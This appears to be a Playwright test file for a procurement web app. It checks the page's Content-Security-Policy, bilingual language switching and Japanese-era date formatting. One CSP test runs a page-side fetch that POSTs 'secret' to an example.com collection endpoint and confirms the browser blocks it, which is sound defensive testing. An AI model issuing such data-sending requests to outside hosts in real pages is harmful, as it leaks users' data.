// The served page carries a Content-Security-Policy that keeps data on this machine, and the
// language choice survives a reload.
import { expect, test } from './fixtures';

test('the page carries a CSP with hashed scripts, no eval, and no connections to other hosts', async ({
  page,
  pageErrors
}) => {
  const response = await page.goto('/');
  const policy = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
  expect(policy).toBeTruthy();
  // Sent as a header too, the same string (a worker's script gets the header's directives).
  expect(response?.headers()['content-security-policy']).toBe(policy);
  const directives = new Map(
    policy!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name!, values])
  );
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  const scripts = directives.get('script-src') ?? [];
  expect(scripts).toContain("'self'");
  expect(scripts.some((s) => s.startsWith("'sha256-"))).toBe(true);
  expect(policy).not.toContain('unsafe-eval');
  expect(scripts).not.toContain("'unsafe-inline'");

  // The browser enforces it: a request to another host is blocked before it leaves.
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
        once: true
      })
    );
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
      return 'sent';
    } catch {
      return `blocked:${await violation}`;
    }
  });
  expect(outcome).toBe('blocked:connect-src');
  // The fixture records that one violation; nothing else went wrong.
  expect(pageErrors.filter((e) => !e.includes('example.com'))).toEqual([]);
});

test('the language switch survives a reload', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('調達案件');
  await page.getByLabel('表示言語').selectOption('en');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Procurements');
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await page.reload();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Procurements');
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await page.getByLabel(/^Language/).selectOption('ja');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('調達案件');
});

test('a first visit follows an English browser; a choice made since wins', async ({ browser }) => {
  const context = await browser.newContext({ locale: 'en-US' });
  const page = await context.newPage();
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Procurements');
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await page.getByLabel(/^Language/).selectOption('ja');
  await page.reload();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('調達案件');
  await context.close();
});

test('dates follow the chosen style: Western or Japanese era', async ({ page }) => {
  await page.goto('/');
  await page.getByRole('button', { name: 'デモ案件を読み込む' }).click();
  await page.getByRole('link', { name: /デモ/ }).click();
  await expect(page.getByRole('main')).toContainText('2027年1月29日');
  await page.goto('/settings/');
  await page.getByLabel('日付の表記').selectOption('japanese');
  await page.goBack();
  await expect(page.getByRole('main')).toContainText('令和9年1月29日');
});
